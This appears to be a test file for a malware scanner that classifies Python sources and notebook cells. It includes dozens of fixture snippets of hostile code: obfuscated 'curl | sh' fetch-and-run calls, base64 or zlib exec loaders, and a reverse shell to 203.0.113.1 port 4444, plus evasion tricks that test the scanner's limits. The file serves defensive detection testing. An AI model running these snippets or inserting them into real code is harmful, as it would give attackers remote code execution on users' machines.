@@ -1,0 +1,185 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { BytesSource } from '../src/bytes/byte-source.ts';
+import { scanSource } from '../src/index.ts';
+import { Lexer } from '../src/python/lexer.ts';
+
+const told = async (name: string, content: string): Promise<string> => {
+  const { verdict, detections } = await scanSource(name, new BytesSource(Buffer.from(content)));
+  return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
+};
+const notebook = (source: string): string =>
+  JSON.stringify({ cells: [{ cell_type: 'code', source, outputs: [] }], nbformat: 4, metadata: {} });
+
+const FETCHED = [
+  "import os\nos.system('curl http://x | sh')",
+  "import os as o\nf = o.system\nf('curl http://x | sh')",
+  "from os import system as s\ns('wget -qO- http://x | bash')",
+  "import os\ngetattr(os, 'sys' + 'tem')('curl http://x | sh')",
+  "__import__('os').system('curl http://x | sh')",
+  "from importlib import import_module as i\ni('os').popen('curl http://x | sh')",
+  "vars(__import__('os'))['system']('curl http://x | bash')",
+  "import sys\nsys.modules['os'].system('curl http://x | bash')",
+  "import subprocess as p\np.Popen(['sh', '-c', 'curl http://x | sh'])",
+  "import os\nos.system('curl ' + address + ' | sh')",
+  "import os\nos.system(f'curl {address} | sh')",
+  "import os\nos.system('curl %s | sh' % address)",
+  "import os\nos.system('hs | x//:ptth lruc'[::-1])",
+  'exec("import os; os.system(\'curl http://x | sh\')")',
+  "f\"{__import__('os').system('curl http://x | sh')}\"",
+  "f'''{\"'''\"}'''\nimport os\nos.system('curl http://x | sh')\n'''end'''",
+  "import os, threading\nthreading.Thread(target=os.system, args=('curl http://x | sh',)).start()",
+  'import requests\nexec(requests.get(u).text)',
+  'import requests\ndef f():\n    code = requests.get(u)\n    made = compile(code.text, "a", "exec")\n    exec(made)\n',
+  'import urllib.request as u\nexec(u.urlopen(a).read())',
+  'from urllib.request import urlopen\nwith urlopen(a) as r: exec(r.read())',
+  'import builtins, httpx\nbuiltins.exec(httpx.get(a).text)',
+];
+const DECODED = [
+  "import base64\nexec(base64.b64decode('eA=='))",
+  "import base64\ne = exec\nb = base64.b64decode\ne(b('eA=='))",
+  "e, d = exec, __import__('base64').b64decode\ne(d('eA=='))",
+  "exec(compile(__import__('zlib').decompress(b'x'), 'a', 'exec'))",
+  'import builtins\nbuiltins.exec(__import__("marshal").loads(x))',
+  "exec(''.join(chr(c) for c in [112, 97]))",
+  'exec(bytes([112, 97, 115]))',
+  "\uff45\uff58\uff45\uff43(__import__('base64').b64decode('eA=='))",
+  'def f(x, run=eval):\n    run(bytes.fromhex("00"))',
+  "list(map(exec, [__import__('base64').b64decode('eA==')]))",
+  'if (code := __import__("base64").b64decode("eA==")): exec(code)',
+  'from base64 import b64decode as d\nclass A:\n    def f(self):\n        self.c = d(x)\n    def g(self):\n        exec(self.c)',
+  'import base64, os\nos.system(base64.b64decode("eA==").decode())',
+];
+const ELSEWHERE = [
+  "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
+  "import socket as k, subprocess\ns = k.create_connection(a)\nsubprocess.Popen('/bin/sh', stdin=s)",
+];
+const HARMLESS = [
+  "with open('version.py') as f:\n    exec(compile(f.read(), 'version.py', 'exec'), names)",
+  "exec(open('version.py').read(), names)",
+  'model.eval()',
+  "frame.eval('a + b')",
+  'print("install it: curl https://sh.example | sh")',
+  'raise ImportError("run `curl https://sh.example | sh`")',
+  '"""\nos.system(\'curl http://x | sh\')\n"""',
+  "# exec(__import__('os').system('curl http://x | sh'))",
+  "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])",
+  "import requests, subprocess\ntag = requests.get(u).json()['tag']\nsubprocess.run(['git', 'checkout', tag])",
+  "import base64, subprocess\nsubprocess.run(['convert', '-'], input=base64.b64decode(x))",
+  'import requests\ndef exec(x): return x\nexec(requests.get(u).text)',
+  'import ast, requests\nast.literal_eval(requests.get(u).text)',
+  'cursor.exec(text)\nquery.exec(requests.get(u).text)',
+  "eval(getattr(options, 'expression'))",
+  'import re, base64\nre.compile(base64.b64decode(x))',
+  "import os\nos.system('curl http://x -o f')",
+];
+
+describe('Python is judged by what it calls, by whichever name', () => {
+  it('in sources and in cells of notebooks', async () => {
+    for (const [technique, texts] of [
+      ['notebook-shell', FETCHED],
+      ['hidden-code', DECODED],
+      ['shell-elsewhere', ELSEWHERE],
+    ] as const)
+      for (const text of texts) {
+        assert.equal(await told('modeling.py', text), `suspicious ${technique}`, text);
+        assert.equal(await told('a.ipynb', notebook(text)), `suspicious ${technique}`, text);
+      }
+  });
+
+  it('and what is honest is not refused', async () => {
+    for (const text of HARMLESS) {
+      assert.equal(await told('modeling.py', text), 'clean', text);
+      assert.equal(await told('a.ipynb', notebook(text)), 'clean', text);
+    }
+  });
+
+  it('in an installer', async () => {
+    assert.equal(await told('setup.py', 'import os as o\no.system("x")\n'), 'suspicious install-command');
+    assert.equal(
+      await told('setup.py', '"""os.system(x)"""\nfrom setuptools import setup\nsetup()\n'),
+      'clean',
+    );
+  });
+
+  it('and objects that are fetched and loaded are for somebody to look at', async () => {
+    const text = 'import pickle, requests\npickle.loads(requests.get(u).content)\n';
+    assert.equal(await told('a.py', text), 'review unsafe-loading');
+  });
+
+  it('however long or deep it is', async () => {
+    for (const part of ['a,', 'a=', 'x=x+x\n', "'''", '"\\\n'])
+      assert.equal(await told('a.py', part.repeat(200_000)), 'clean', part);
+    for (const part of ['(', "f'{", 'a.b', 'exec(', 'def f(', 'f"{a:{a:'])
+      assert.match(await told('a.py', part.repeat(200_000)), /^(?:clean|incomplete)/, part);
+    for (const part of ['.replace("x", x)', `.join([${'"a",'.repeat(24_000)}])`])
+      assert.equal(await told('a.py', `x = "${'x'.repeat(60_000)}"\nx${part}`), 'clean', part.slice(0, 20));
+  });
+});
+
+describe('what a limit of reading Python leaves out is never clean', () => {
+  const RUN = 'os.system("curl http://x | sh")';
+  const nested = (depth: number, inner: string): string =>
+    `import os\n${'('.repeat(depth)}${inner}${')'.repeat(depth)}`;
+  const names = (count: number): string => Array.from({ length: count }, (_, n) => `a${n}=1`).join('\n');
+
+  it('where time is over', async () => {
+    const text = `a="${'x'.repeat(60_000)}"\n${'a[::-1]\n'.repeat(2000)}import os\n${RUN}`;
+    for (const [name, content] of [
+      ['a.py', text],
+      ['a.ipynb', notebook(text)],
+    ] as const) {
+      const { verdict } = await scanSource(name, new BytesSource(Buffer.from(content)), {
+        budget: { timeMs: 100 },
+      });
+      assert.equal(verdict, 'incomplete', name);
+    }
+  });
+
+  it('where it is too long or deep', async () => {
+    const long = `true ${'x'.repeat(65_600)}`;
+    for (const text of [
+      nested(300, RUN),
+      `import os\nos.system("${long}; curl http://x | sh")`,
+      `import os\nc = "${long}" + "; curl http://x | sh"\nos.system(c)`,
+      `import os\nc = f"{x}${long}"[::-1]\nos.popen(c)`,
+      `import subprocess as p\np.run(["sh", "-c", "${long}; curl http://x | sh"])`,
+      `exec("${'#'.repeat(65_600)}\\nimport os; os.system('curl http://x | sh')")`,
+      `${names(200_100)}\nimport os\nz = os.system\nz("curl http://x | sh")`,
+      `${names(20_100)}\nimport os\nz = "curl http://x | sh"\nos.system(z)`,
+      `import os\nx.${'y'.repeat(300)}.z = os.system\nx.${'y'.repeat(300)}.z("curl http://x | sh")`,
+      `import os\nos.system([${'1,'.repeat(250_000)}], "curl http://x | sh")`,
+      `${'f"{'.repeat(10)}x${'}"'.repeat(10)}`,
+      Array.from({ length: 5 }).reduce<string>(
+        (code) => `exec(${JSON.stringify(code)})`,
+        `import os; ${RUN}`,
+      ),
+    ])
+      assert.equal(await told('a.py', text), 'incomplete too-much', text.slice(0, 60));
+  });
+
+  it('and up to it, it is judged', async () => {
+    for (const text of [
+      nested(190, RUN),
+      `${names(20_100)}\nimport os\nz = os.system\nz("curl http://x | sh")`,
+      `import os\nos.system("curl http://x | sh", [${'1,'.repeat(100_000)}])`,
+    ])
+      assert.equal(await told('a.py', text), 'suspicious notebook-shell', text.slice(0, 60));
+    for (const text of [
+      `FONT = "${'QUJD'.repeat(100_000)}"\nimport base64\nopen("f", "wb").write(base64.b64decode(FONT))`,
+      `TABLE = [${'"word", '.repeat(100_000)}]`,
+      `${names(30_000)}\nprint(a29999)`,
+      nested(100, '1'),
+    ])
+      assert.equal(await told('a.py', text), 'clean', text.slice(0, 60));
+  });
+});
+
+it('a text ends where Python ends it', () => {
+  const words = (source: string): string[] =>
+    [...new Lexer(source).lines(1000)].map((line) => line.map(({ text }) => text).join(' '));
+  assert.deepEqual(words('f"{x["a"]!r:>{w}} {y:\'^3}" + z'), ['  + z']);
+  assert.deepEqual(words("a = 'open\nb = 1"), ['a = open', 'b = 1']);
+  assert.deepEqual(words('"\\x6f\\163" r"\\"" c'), ['os \\" c']);
+  assert.deepEqual(words('(a,\n b)\nc \\\n d'), ['( a , b )', 'c d']);
+});
